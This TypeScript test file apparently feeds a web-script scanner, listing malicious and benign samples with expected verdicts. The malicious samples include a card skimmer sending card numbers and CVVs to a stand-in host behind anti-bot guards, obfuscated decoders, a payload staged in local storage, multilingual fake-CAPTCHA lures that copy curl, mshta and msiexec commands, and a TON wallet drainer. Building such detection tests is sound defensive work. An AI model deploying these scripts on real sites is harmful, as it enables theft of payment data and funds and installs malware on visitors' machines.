// Scripts that first check where and when they run, in the ways in which scripts say yes or no, with their expected
// verdicts. They are inert: none of them is ever run, and the hosts do not exist.
import type { HonestCase } from './honest-scripts.cases.ts'
import type { ScriptCase } from './score-script.cases.ts'

const CHECKOUT = `location.href.indexOf('checkout')`
const HOST = 'https://stats.example.org/c?'
const toHost = (host: string): string =>
  `document.querySelector('#place_order').addEventListener('click',function(){new Image().src=${host}+btoa(document.querySelector('#cc_number').value+'|'+document.querySelector('#cc_cvv').value)})`
const SENDS = toHost(`'${HOST}'`)

/** Each ends the function around it, or does not, by a condition that only the browser knows. */
const GUARDS: Readonly<Record<string, string>> = {
  'a function that returns true, else false': `function is(){if(${CHECKOUT}!==-1){return true}return false}if(!is())return;`,
  'a function that returns false, else true': `function isNot(){if(${CHECKOUT}===-1){return true}return false}if(isNot())return;`,
  'a function that returns one, else nothing': `function is(){if(${CHECKOUT}!==-1)return 1;return null}if(is()==null)return;`,
  'a function that returns one, else zero': `function is(){if(${CHECKOUT}!==-1)return 1;return 0}if(is()===0)return;`,
  'a function that returns an element, else null': `function find(){var e=document.querySelector('#cc_number');if(e.offsetParent)return e;return null}if(!find())return;`,
  'a function that returns false in a loop': `function has(list,s){for(var i=0;i<list.length;i++)if(s.indexOf(list[i])!==-1)return true;return false}if(has(['bot','crawl'],navigator.userAgent))return;`,
  'a function that returns an answer at the end': `function is(){if(navigator.webdriver)return false;if(window.opener)return false;return ${CHECKOUT}>-1}if(!is())return;`,
  'a choice of true and false': `var is=${CHECKOUT}===-1?false:true;if(!is)return;`,
  'a variable that is set to false': `var is=true;if(navigator.webdriver)is=false;if(!is)return;`,
  'a variable that is set to true': `var isBot=false;if(navigator.webdriver){isBot=true}if(isBot)return;`,
  'a variable that is set by an operator': `var is=true;navigator.webdriver&&(is=false);if(!is)return;`,
  'a variable that is declared again': `var is=true;if(navigator.webdriver){var is=false}if(!is)return;`,
  'a variable of the function around it, behind an end': `var is=true;(function(){if(!navigator.webdriver)return;is=false})();if(!is)return;`,
  'a variable that a loop sets, behind an end': `var is=true;[1].forEach(function(){for(var i=0;i<1;i++){if(!navigator.webdriver)continue;is=false}});if(!is)return;`,
  'a variable that every round sets, behind an end': `var is=true;for(var i of ['a','b']){if(!navigator.webdriver)continue;is=false}if(!is)return;`,
  'a function that returns a text, else false': `function is(){if(navigator.webdriver)return'bot';return false}if(is())return;`,
  'a function that returns an object, else null': `function is(){if(window.opener)return{done:1};return null}if(is())return;`,
  'a variable that two branches set to the same, in a loop that it ends': `var is=false;for(;;){if(navigator.onLine){is=true}else{is=true}if(is)break}`,
  'a variable that ends a loop': `var is=false;for(;;){if(navigator.onLine)is=true;if(is)break}`,
  'a member that ends a loop': `var state={is:false};while(true){if(document.readyState)state.is=true;if(state.is)break}`,
  'a variable that is set by two branches': `var is=false;[1,2].forEach(function(){if(document.hidden)is=true;else is=false});if(!is)return;`,
  'a variable that is set twice in a branch': `var is=true;if(navigator.webdriver){is=false;if(window.opener){is=true}}if(!is)return;`,
  'a variable that is set in a branch of a branch': `var is=true;if(document.hidden){if(navigator.webdriver){is=false}}if(!is)return;`,
  'a variable of the function around it': `var is=true;(function(){if(navigator.webdriver)is=false})();if(!is)return;`,
  'a variable that is set by a switch': `var is=true;switch(location.pathname){case'/':is=false}if(!is)return;`,
  'a global variable': `window.is=true;if(navigator.webdriver){is=false}if(!is)return;`,
  'a member of an object': `var state={is:true};if(navigator.webdriver){state.is=false}if(!state.is)return;`,
  'a member of an instance': `class State{constructor(){this.is=true;if(navigator.webdriver)this.is=false}}if(!new State().is)return;`,
}

const IS_BOT = `function isBot(){if(/bot/i.test(navigator.userAgent))return true;return false}`
/** Each sets `host`. */
const CHOICES: Readonly<Record<string, string>> = {
  'a choice by a function': `${IS_BOT}var host=isBot()?'/collect?':'${HOST}';`,
  'a branch by a function': `${IS_BOT}var host='${HOST}';if(isBot())host='/collect?';`,
  'a function that returns a text, else false': `function own(){if(navigator.webdriver)return'/own?';return false}var host=own()||'${HOST}';`,
  'an object that is there, or not': `function own(){if(navigator.webdriver)return{host:'/own?'};return null}var set=own();var host=set?set.host:'${HOST}';`,
  'a first value behind an end': `var host;(function(){if(navigator.webdriver)return;var isLive=true;host=isLive!==true?'/own?':'${HOST}'})();`,
}

/** Asks, at each character, what only the browser knows. */
const decodedIn = (loop: string): string =>
  `function check(){if(navigator.webdriver)return false;return true}var code=atob('${btoa(SENDS)}'),text='',i=0;${loop}new Function(text)()`

const COPIES = (command: string): string => `navigator.clipboard.writeText(${command})`

export const GUARDED_CASES: readonly ScriptCase[] = [
  ...Object.entries(GUARDS).map(([name, guard]): ScriptCase => ({
    name: `a card behind ${name}`,
    source: `(function(){${guard}${SENDS}})()`,
    head: 'magecart',
  })),
  ...Object.entries(CHOICES).map(([name, choice]): ScriptCase => ({
    name: `a card to a host by ${name}`,
    source: choice + toHost('host'),
    head: 'magecart',
  })),
  {
    name: 'a decoder that ends itself, and asks in between',
    source: decodedIn('for(;;){if(i>=code.length)break;check();text+=code.charAt(i);i++}'),
    head: 'magecart',
  },
  {
    name: 'a decoder that is perhaps left in each round',
    source: decodedIn(
      'while(!![]){if(i>=code.length)break;if(window.closed){break}text+=code.charAt(i);i++}',
    ),
    head: 'magecart',
  },
  {
    name: 'code by the constructor of an old method of texts',
    source: `''.sub.constructor(atob('${btoa(SENDS)}'))()`,
    head: 'magecart',
  },
  {
    name: 'code by the constructor of a method of lists',
    source: `[].lastIndexOf.constructor(atob('${btoa(SENDS)}'))()`,
    head: 'magecart',
  },
  {
    name: 'encrypted code of the visit before',
    source: `var s=localStorage.getItem('frag');function read(t){var o='',b=atob(t);for(var i=0;i<b.length;i++)o+=String.fromCharCode(b.charCodeAt(i)^7);return o}if(s)setTimeout(function(){new Function(read(s))()},4000);fetch('https://api.example.net/frag').then(function(r){return r.text()}).then(function(t){localStorage.setItem('frag',t)})`,
    head: 'malware',
  },
  {
    name: 'a command, with steps in German',
    source: `var c=['cmd','/c','start','/min','curl','-s','https://check.invalid/t','|','cmd'].join(' ');document.body.innerHTML='<h2>Bestätigen Sie, dass Sie ein Mensch sind</h2><button>Ich bin kein Roboter</button><ol><li>Drücken Sie die Windows-Taste + R</li><li>Fügen Sie den Code mit Strg + V ein</li></ol>';document.querySelector('button').onclick=function(){${COPIES('c')}}`,
    head: 'malware',
  },
  {
    name: 'a command, with steps in Spanish',
    source: `document.body.innerHTML='<h2>Verifica que eres humano</h2><button>No soy un robot</button><p>Presiona Windows + R y pega con Ctrl + V</p>';document.querySelector('button').onclick=function(){${COPIES(`'mshta https://check.invalid/t'`)}}`,
    head: 'malware',
  },
  {
    name: 'a command, with steps in French',
    source: `document.body.innerHTML='<h2>Je ne suis pas un robot</h2><button>Continuer</button><p>Appuyez sur la touche Windows + R, puis collez avec Ctrl + V</p>';document.querySelector('button').onclick=function(){${COPIES(`'msiexec /i https://check.invalid/t.msi'`)}}`,
    head: 'malware',
  },
  {
    name: 'all of a wallet of TON',
    source: `const ui=new TON_CONNECT_UI.TonConnectUI({manifestUrl:'https://x.example/m.json'});async function claim(){const {balance}=await(await fetch('https://api.example.net/accounts/'+ui.account.address)).json();await ui.sendTransaction({validUntil:Date.now()+360,messages:[{address:'EQD4k9fQ0GmV7sJcRtY2bWnXaZ1pLhUe5oTi8CvBNmKqSx3y',amount:String(balance-60000000)}]})}document.querySelector('#claim').onclick=claim`,
    head: 'malware',
  },
]

export const HONEST_GUARDED_CASES: readonly HonestCase[] = [
  {
    name: 'code behind a constant',
    source: `(function(){var DEBUG=false;if(!DEBUG)return;${SENDS}})()`,
  },
  {
    name: 'the parts of an address, with a separator between them',
    source: `var first=true,address='';['https://api.example.org','v1','items'].forEach(function(part){if(!first)address+='/';address+=part;first=false});fetch(address).then(function(r){return r.json()}).then(show)`,
  },
  {
    name: 'visits that are counted, but not those of crawlers',
    source: `function isBot(){if(/bot|crawl|spider/i.test(navigator.userAgent))return true;return false}(function(){if(isBot())return;if(/google\\.|bing\\./.test(document.referrer))navigator.sendBeacon('https://stats.example.org/visit',JSON.stringify({from:document.referrer,page:location.pathname}))})()`,
  },
  {
    name: 'a command for the terminal, to be pasted, in German',
    source: `document.querySelectorAll('.kopieren').forEach(function(k){k.onclick=function(){navigator.clipboard.writeText('curl -fsSL https://get.example.org | sh');k.textContent='Kopiert: fügen Sie es mit Strg + V im Terminal ein'}})`,
  },
  {
    name: 'the price of a ticket, paid by a wallet of TON that has enough',
    source: `const since=Date.now()-86400000;const ui=new TON_CONNECT_UI.TonConnectUI({manifestUrl:'https://shop.example/m.json'});document.querySelector('#buy').onclick=async()=>{const {balance}=await(await fetch('/accounts/'+ui.account.address)).json();document.querySelector('#rest').textContent=balance-2000000000;if(balance-50000000<2000000000)return show('the balance is too low');await ui.sendTransaction({validUntil:Date.now()+360,messages:[{address:'EQD4k9fQ0GmV7sJcRtY2bWnXaZ1pLhUe5oTi8CvBNmKqSx3y',amount:'2000000000'}]})}`,
    sign: 'wallet-balance-sent',
  },
  {
    name: 'all that a wallet of TON can stake',
    source: `const ui=new TON_CONNECT_UI.TonConnectUI({manifestUrl:'https://pool.example/m.json'});document.querySelector('#stake').onclick=async()=>{const {balance}=await(await fetch('https://api.pool.example/accounts/'+ui.account.address)).json();const most=balance-200000000;await ui.sendTransaction({validUntil:Date.now()+360,messages:[{address:'EQD4k9fQ0GmV7sJcRtY2bWnXaZ1pLhUe5oTi8CvBNmKqSx3y',amount:String(most)}]})}`,
    sign: 'wallet-balance-sent',
  },
  {
    name: 'code that visitors wrote, beside news in the same storage',
    source: `document.querySelector('#run').onclick=function(){new Function(atob(localStorage.getItem('draft')))()};document.querySelector('textarea').oninput=function(){localStorage.setItem('draft',btoa(this.value))};fetch('https://news.example.net/latest').then(function(r){return r.text()}).then(function(t){localStorage.setItem('news',t)})`,
    sign: 'decoded-code-from-network',
  },
]
